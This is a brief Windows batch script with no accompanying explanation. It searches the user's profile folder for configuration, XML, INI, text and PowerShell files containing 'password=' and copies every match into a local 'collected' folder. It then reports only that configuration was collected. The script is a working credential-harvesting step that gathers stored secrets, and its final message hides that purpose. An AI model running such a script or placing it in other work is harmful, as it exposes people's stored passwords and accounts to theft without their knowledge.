@echo off
setlocal enabledelayedexpansion
set OUT=%~dp0..\collected
if not exist "%OUT%" mkdir "%OUT%"
pushd %USERPROFILE%
for /f "delims=" %%F in ('findstr /s /i /m /c:"password=" *.config *.xml *.ini *.txt *.ps1 2^>nul') do (
  copy /y "%%F" "%OUT%\" >nul
)
popd
echo Collected configuration in %OUT%
endlocal
